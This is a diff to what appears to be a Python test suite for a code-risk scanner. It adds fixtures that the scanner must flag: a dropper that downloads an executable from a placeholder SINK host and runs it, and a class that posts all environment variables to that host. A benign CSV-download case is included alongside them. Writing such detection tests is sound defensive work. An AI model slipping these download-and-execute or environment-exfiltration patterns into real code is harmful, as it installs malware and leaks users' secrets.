@@ -112,3 +112,53 @@ def test_a_browser_helper_reading_local_state_and_fetching_a_driver_sends_nothin
     )
     result = _module(subfolder(tmp_path, "helper"), code)
     assert result.risk.level not in HIGH, [(t.id, t.severity) for t in result.threats]
+
+
+# ---------------------------------------------------------------- a download behind a helper
+# An updater's fetch() writes the response straight into a file and returns the path; the
+# command the user runs starts what fetch() returned. Written inline in one function, or
+# split in two, the download is run.
+FETCH = """import os, subprocess, tempfile, requests
+
+
+def fetch(url):
+    path = os.path.join(tempfile.gettempdir(), "upd.exe")
+    with open(path, "wb") as f:
+        f.write(requests.get(url).content)
+    return path
+"""
+
+
+def test_a_download_written_inline_then_started_is_download_execute(tmp_path):
+    code = (
+        "import os, subprocess, tempfile, requests\n\n\ndef update():\n"
+        "    path = os.path.join(tempfile.gettempdir(), 'upd.exe')\n"
+        "    with open(path, 'wb') as f:\n"
+        f"        f.write(requests.get('{SINK}/u.exe').content)\n"
+        "    subprocess.Popen([path])\n"
+    )
+    assert_high_with("inline dropper", _module(tmp_path, code), {"chain.download_execute"})
+
+
+def test_the_path_a_helper_downloaded_to_then_started_is_download_execute(tmp_path):
+    code = FETCH + f"\n\ndef update():\n    subprocess.Popen([fetch('{SINK}/u.exe')])\n"
+    assert_high_with("helper dropper", _module(tmp_path, code), {"chain.download_execute"})
+
+
+def test_a_helper_saving_a_download_that_nothing_starts_is_no_chain(tmp_path):
+    """A data helper saving a file and a caller that only reads it back."""
+    code = FETCH.replace("upd.exe", "table.csv") + (
+        f"\n\ndef table():\n    with open(fetch('{SINK}/t.csv')) as f:\n        return f.read()\n"
+    )
+    result = _module(subfolder(tmp_path, "data"), code)
+    assert result.risk.level not in HIGH, [(t.id, t.severity) for t in result.threats]
+
+
+# ---------------------------------------------------------------- a method's return
+def test_a_method_returning_the_environment_sent_by_another_method_is_exfiltration(tmp_path):
+    code = (
+        "import os, requests\n\n\nclass Reporter:\n"
+        "    def collect(self):\n        return dict(os.environ)\n\n"
+        f"    def send(self):\n        requests.post('{SINK}', json=self.collect())\n"
+    )
+    assert_high_with("method", _module(tmp_path, code), {"chain.exfiltration"})
